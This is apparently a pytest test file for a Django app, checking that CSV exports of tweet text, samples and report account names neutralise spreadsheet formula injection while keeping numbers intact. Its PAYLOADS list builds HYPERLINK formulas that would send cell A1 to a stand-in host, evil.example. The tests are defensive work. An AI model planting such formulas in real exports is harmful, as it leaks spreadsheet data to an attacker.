"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP's rule):
the overview table, a Tweet's samples and the report's attachment, one leading character
at a time; numbers, negative ones included, stay numbers."""

import csv
import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine

from accounts.models import XAccount
from reports.content import build_report, csv_bytes
from reports.schedule import report_period
from tweets.exports import FORMULA_STARTS, csv_cell
from tweets.models import Tweet, TweetSample

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 11, 3, 12, tzinfo=UTC)
# Each character OWASP names, leading a payload a spreadsheet would otherwise evaluate.
PAYLOADS = [f'{start}HYPERLINK("https://evil.example/?"&A1,"x")' for start in FORMULA_STARTS]


def parse(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


@pytest.fixture
def account(alice):
    return XAccount.objects.create(
        owner=alice, x_user_id="7", username="mine", auth_kind="oauth2", sandbox=True
    )


@pytest.fixture
def signed_in(client, alice):
    client.force_login(alice)
    return client


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(c) for c in FORMULA_STARTS])
def test_overview_csv_quotes_a_formula_tweet_text(account, signed_in, payload):
    tweet = Tweet.objects.create(
        id=5,
        account=account,
        text=payload,
        created_at=NOW - timedelta(hours=2),
        last_sampled_at=NOW,
    )
    TweetSample.objects.create(tweet=tweet, captured_at=NOW, impressions=10, likes=1)
    with time_machine.travel(NOW + timedelta(hours=1), tick=False):
        answer = signed_in.get("/dashboard/overview.csv", {"account": account.pk})
    (row,) = parse(answer.content)
    assert row["text"] == "'" + payload
    assert row["impressions"] == "10"


@pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(c) for c in FORMULA_STARTS])
def test_report_attachment_quotes_a_formula_account_name(account, payload):
    # The report's only text is the account's name; X's usernames never start so, but the
    # rule holds whatever the database holds.
    XAccount.objects.filter(pk=account.pk).update(username=payload)
    account.refresh_from_db()
    report = build_report([account], report_period("daily", ZoneInfo("UTC"), NOW))
    rows = parse(csv_bytes(report.csv_rows))
    assert len(rows) == 24 and {row["account"] for row in rows} == {"'" + payload}


def test_samples_csv_keeps_numbers_and_quotes_every_text_cell(account, signed_in):
    tweet = Tweet.objects.create(id=5, account=account, created_at=NOW - timedelta(hours=2))
    TweetSample.objects.create(tweet=tweet, captured_at=NOW, impressions=-3, likes=None)
    answer = signed_in.get(f"/dashboard/tweets/{tweet.pk}/samples.csv")
    body = b"".join(answer.streaming_content).decode()
    (row,) = parse(body.encode())
    assert row["impressions"] == "-3" and row["likes"] == ""  # a number stays a number
    assert ",-3," in body.splitlines()[1]  # unquoted: a spreadsheet reads it as a number
    assert body.splitlines()[1].startswith(f'"{NOW.isoformat()}"')  # text is quoted


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_only_text_is_neutralised(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("1+1") == "1+1" and csv_cell("a=1") == "a=1"
    assert csv_cell(-5) == -5 and csv_cell(-0.5) == -0.5 and csv_cell(None) == ""
